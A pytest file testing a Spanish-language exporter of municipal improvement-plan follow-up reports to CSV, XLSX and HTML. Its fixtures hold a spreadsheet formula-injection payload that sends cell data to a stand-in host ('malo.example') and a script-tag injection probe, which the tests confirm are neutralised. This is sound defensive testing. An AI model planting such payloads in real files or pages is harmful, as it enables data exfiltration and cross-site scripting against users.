"""The follow-up files as the office opens them (XLSX, HTML, CSV), built from rows written by hand."""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from planmejora.calidad.modelo import Accion
from planmejora.seguimiento import CambiosDePlan, Seguimiento, escribir_seguimiento
from planmejora.seguimiento.modelo import Cambio, Copia

CORTE = dt.date(2022, 6, 30)
HIPERVINCULO = '=HYPERLINK("http://malo.example/?d="&A1,"Ver")'
GUION = "<script>alert(1)</script>"


def accion(
    hallazgo_id: int, dependencia: str | None, termina: dt.date | None, estado: str | None, **otros: str
) -> Accion:
    return Accion(
        archivo="planes/calica.docx",
        plan="ALCALDÍA DE CALICA — planes/calica.docx",
        numero=str(hallazgo_id),
        accion_mejora=otros.get("texto", f"Acción {hallazgo_id}"),
        dependencia=dependencia,
        fecha_terminacion=termina,
        fecha_terminacion_precision=otros.get("precision", "dia"),
        estado_accion=estado,
        cumplimiento=None,
        efectividad=None,
        entidad="ALCALDÍA DE CALICA",
        fecha_suscripcion=dt.date(2021, 9, 21),
        cargo_responsable=otros.get("cargo", "Tesorero"),
        proceso_auditado="Gestión Financiera",
        hallazgo_id=hallazgo_id,
        plan_id=1,
    )


def seguimiento_de_ejemplo() -> Seguimiento:
    return Seguimiento(
        base="sqlite:///planes.db",
        corte=CORTE,
        generado=dt.datetime(2022, 7, 1, 8, 0),
        acciones=[
            accion(1, "Secretaría de Hacienda", dt.date(2022, 3, 31), "cerrada"),
            accion(2, "Secretaría de Hacienda", dt.date(2022, 6, 1), "abierta", precision="mes"),
            accion(3, "Secretaría de Hacienda", dt.date(2022, 5, 31), None, cargo=HIPERVINCULO),
            accion(4, GUION, None, "abierta", texto=GUION),
        ],
        cambios=[
            CambiosDePlan(
                "ALCALDÍA DE CALICA — planes/calica.docx",
                Copia("planes/calica_enero.docx", dt.date(2022, 1, 15), 1),
                Copia("planes/calica.docx", dt.date(2022, 6, 1), 2),
                [Cambio("cerrada", "1", "Acción 1", "Secretaría de Hacienda", "abierta", "cerrada")],
            )
        ],
    )


def test_csv_una_fila_por_accion_con_su_estado_al_corte(tmp_path: Path) -> None:
    salida = tmp_path / "seguimiento.csv"
    escribir_seguimiento(seguimiento_de_ejemplo(), salida)
    assert salida.read_bytes().startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to show accents"
    with salida.open(encoding="utf-8-sig", newline="") as archivo:
        filas = list(csv.DictReader(archivo))
    assert [(f["hallazgo_id"], f["fecha_terminacion"], f["vence"], f["estado_seguimiento"]) for f in filas] == [
        ("1", "2022-03-31", "2022-03-31", "cumplida"),
        ("2", "2022-06", "2022-06-30", "en_termino"),
        ("3", "2022-05-31", "2022-05-31", "vencida"),
        ("4", "", "", "sin_fecha"),
    ]
    for columna in ("entidad", "proceso_auditado", "fecha_suscripcion", "numero", "dependencia", "cargo_responsable"):
        assert columna in filas[0]
    assert filas[0]["entidad"] == "ALCALDÍA DE CALICA" and filas[0]["fecha_suscripcion"] == "2021-09-21"
    assert filas[2]["cargo_responsable"] == "'" + HIPERVINCULO and filas[2]["estado_accion"] == ""


def test_xlsx_totales_primero_luego_acciones_y_cambios_y_se_imprime(tmp_path: Path) -> None:
    salida = tmp_path / "seguimiento.xlsx"
    escribir_seguimiento(seguimiento_de_ejemplo(), salida)
    libro = load_workbook(salida)
    assert libro.sheetnames == ["Resumen", "Por dependencia", "Por plan", "Acciones", "Cambios"]
    resumen = {f[0]: f[1] for f in libro["Resumen"].iter_rows(values_only=True) if f and f[0]}
    assert (resumen["Acciones"], resumen["Cumplida"], resumen["Vencida"], resumen["Sin fecha"]) == (4, 1, 1, 1)
    por_dependencia = list(libro["Por dependencia"].iter_rows(values_only=True))
    assert por_dependencia[0][:6] == ("Dependencia", "Acciones", "Cumplidas", "En término", "Vencidas", "Sin fecha")
    hacienda = next(f for f in por_dependencia if f[0] == "Secretaría de Hacienda")
    assert hacienda[1:8] == (3, 1, 1, 1, 0, pytest.approx(1 / 3), pytest.approx(1 / 3))
    acciones = libro["Acciones"]
    titulos = [c.value for c in acciones[1]]
    fila_mes = {t: c for t, c in zip(titulos, acciones[3], strict=True)}
    assert fila_mes["Estado al corte"].value == "En término"
    assert fila_mes["Terminación"].number_format.endswith("MMM-YYYY"), "a month-only date shows as a month"
    assert fila_mes["Vence"].value == dt.datetime(2022, 6, 30)
    assert {t: c for t, c in zip(titulos, acciones[4], strict=True)}["Cargo responsable"].value == "'" + HIPERVINCULO
    assert acciones.freeze_panes == "A2" and acciones.auto_filter.ref
    assert acciones.page_setup.orientation == "landscape" and acciones.print_title_rows == "$1:$1"
    assert acciones.sheet_properties.pageSetUpPr.fitToPage and acciones.page_setup.fitToWidth == 1
    cambios = list(libro["Cambios"].iter_rows(values_only=True))
    assert cambios[1][6:] == ("Se cerró", "abierta", "cerrada")


def test_html_totales_cambios_por_plan_y_nada_ejecutable(tmp_path: Path) -> None:
    salida = tmp_path / "seguimiento.html"
    escribir_seguimiento(seguimiento_de_ejemplo(), salida)
    pagina = salida.read_text(encoding="utf-8")
    assert re.search(r'data-total="vencida">1<', pagina) and re.search(r'data-total="acciones">4<', pagina)
    assert pagina.index("Totales") < pagina.index("Qué cambió") < pagina.index("Acciones al 30/06/2022")
    assert 'data-cambio="cerrada"' in pagina and "planes/calica_enero.docx" in pagina
    assert GUION not in pagina and "&lt;script&gt;" in pagina
    assert "<script" not in pagina and "default-src 'none'" in pagina


def test_una_extension_desconocida_se_dice_en_espanol(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"\.xlsx, \.html o \.csv"):
        escribir_seguimiento(seguimiento_de_ejemplo(), tmp_path / "seguimiento.pdf")
